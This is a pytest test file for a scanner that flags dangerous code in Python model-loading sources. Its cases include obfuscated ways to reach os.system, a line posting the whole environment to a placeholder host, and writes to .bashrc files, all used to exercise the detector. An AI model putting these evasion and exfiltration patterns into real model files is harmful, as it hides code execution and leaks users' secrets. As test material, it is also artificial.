"""What Python sources that a loader imports do in roundabout ways, and what only looks like it."""

from __future__ import annotations

from typing import Any

import pytest

from tests.artifacts.looking import DANGEROUS, NOTHING, SUSPICIOUS, inspect, said

CASES = [  # what it is, the source, the verdict, words of a remark
    ("all of a module", "from os import *\nsystem('x')\n", DANGEROUS, "calls os.system"),
    ("a module by its entry", "import sys\nsys.modules['os'].system('x')\n", DANGEROUS, "calls os.system"),
    ("an attribute by its name", "import os\ngetattr(os, 'system')('x')\n", DANGEROUS, "calls os.system"),
    ("an attribute by its entry", "import os\nos.__dict__['system']('x')\n", DANGEROUS, "calls os.system"),
    ("a name that is put together", "import importlib\ngetattr(importlib.import_module('o' + 's'), 'sys' + 'tem')('x')\n", DANGEROUS, "calls os.system"),
    ("what a server calls", "import os\nclass Model:\n    def initialize(self, args):\n        os.system('x')\n", DANGEROUS, "when the model is built or used"),
    ("the whole environment, sent", "import os, requests\ndef f():\n    requests.post('https://x.invalid', json=dict(os.environ))\n", DANGEROUS, "all variables of the environment"),
    ("a variable of the environment, sent", "import os, requests\ndef f():\n    requests.post('https://x.invalid', json={'a': os.environ['A'], 'b': os.environ.get('B')})\n", NOTHING, ""),
    ("the whole environment, kept", "import os\ndef f():\n    return dict(os.environ)\n", NOTHING, ""),
    ("a decorator that runs code", "@exec\n@str\ndef f(): pass\n", DANGEROUS, "exec called as a decorator"),
    ("a function in a list", "import os\n[f('x') for f in [os.system]]\n", DANGEROUS, "keeps os.system under another name"),
    ("a function under another name", "import os\n__getattr__ = os.system\n", DANGEROUS, "keeps os.system under another name"),
    ("a module that is handed on", "import operator, os\noperator.methodcaller('system', 'x')(os)\n", DANGEROUS, "hands os on"),
    ("a lambda that a thread runs", "import threading, os\nthreading.Thread(target=lambda: os.system('x')).start()\n", DANGEROUS, "calls os.system"),
    ("a lambda that waits", "import os\nACT = {'x': lambda: os.getenv('x')}\n", NOTHING, ""),
    ("a file of somebody's", "open('/root/.bashrc', 'a').write('x')\n", DANGEROUS, "writes a file"),
    ("a file at home", "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('x')\n", DANGEROUS, "writes a file"),
    ("a file of its own", "open('log.txt', mode='w').write('x')\n", SUSPICIOUS, "writes a file"),
    ("a file that is read", "x = open('/etc/os-release').read()\n", NOTHING, ""),
    ("a path that is made", "from pathlib import Path\nx = Path('a').resolve().parent / 'b'\n", NOTHING, ""),
]  # fmt: skip


@pytest.mark.parametrize(("source", "verdict", "words"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_sources(source: str, verdict: Any, words: str) -> None:
    found = inspect(source.encode(), "modeling_x.py")
    assert found.verdict is verdict, said(found)
    assert words in said(found)
